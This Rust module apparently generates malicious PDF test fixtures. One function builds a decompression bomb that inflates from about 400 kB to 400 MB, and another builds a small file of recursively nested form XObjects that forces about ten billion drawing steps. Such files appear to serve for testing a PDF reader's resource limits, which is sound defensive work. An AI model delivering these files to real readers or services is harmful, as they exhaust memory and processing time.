//! PDFs that harm a reader without limits.

use std::io::Write as _;

use flate2::Compression;
use flate2::write::ZlibEncoder;

/// A PDF of 400 kB whose page is 400 MB of spaces when it is decompressed.
pub fn memory_bomb() -> Vec<u8> {
    let mut content = ZlibEncoder::new(Vec::new(), Compression::fast());
    let spaces = vec![b' '; 1 << 20];
    for _ in 0..400 {
        content.write_all(&spaces).unwrap();
    }
    let content = stream("/Filter /FlateDecode", &content.finish().unwrap());
    pdf(&[page("<< >>"), content])
}

/// A PDF of 1 kB whose page draws a form that draws a form ten times, and so on: 10,000,000,000 steps.
pub fn time_bomb() -> Vec<u8> {
    let form = |next: usize| {
        let head =
            format!("/Type /XObject /Subtype /Form /Resources << /XObject << /N {next} 0 R >> >>");
        stream(&head, "/N Do ".repeat(10).as_bytes())
    };
    let mut objects = vec![page("<< /XObject << /N 5 0 R >> >>"), stream("", b"/N Do")];
    objects.extend((6..16).map(form));
    objects.push(stream("/Type /XObject /Subtype /Form", b"q Q"));
    pdf(&objects)
}

fn page(resources: &str) -> Vec<u8> {
    format!(
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources {resources} >>"
    )
    .into_bytes()
}

fn stream(head: &str, bytes: &[u8]) -> Vec<u8> {
    let mut object = format!("<< {head} /Length {} >>\nstream\n", bytes.len()).into_bytes();
    object.extend_from_slice(bytes);
    object.extend_from_slice(b"\nendstream");
    object
}

/// A file of one page: the objects from number 3 on, of which the first is the page.
fn pdf(objects: &[Vec<u8>]) -> Vec<u8> {
    let first = [
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
    ];
    let mut out = b"%PDF-1.4\n".to_vec();
    let mut places = Vec::new();
    for (number, object) in (1..).zip(first.iter().chain(objects)) {
        places.push(out.len());
        out.extend_from_slice(format!("{number} 0 obj\n").as_bytes());
        out.extend_from_slice(object);
        out.extend_from_slice(b"\nendobj\n");
    }
    let table = out.len();
    let size = places.len() + 1;
    out.extend_from_slice(format!("xref\n0 {size}\n0000000000 65535 f \n").as_bytes());
    for place in places {
        out.extend_from_slice(format!("{place:010} 00000 n \n").as_bytes());
    }
    let trailer = format!("trailer\n<< /Size {size} /Root 1 0 R >>\nstartxref\n{table}\n%%EOF\n");
    out.extend_from_slice(trailer.as_bytes());
    out
}
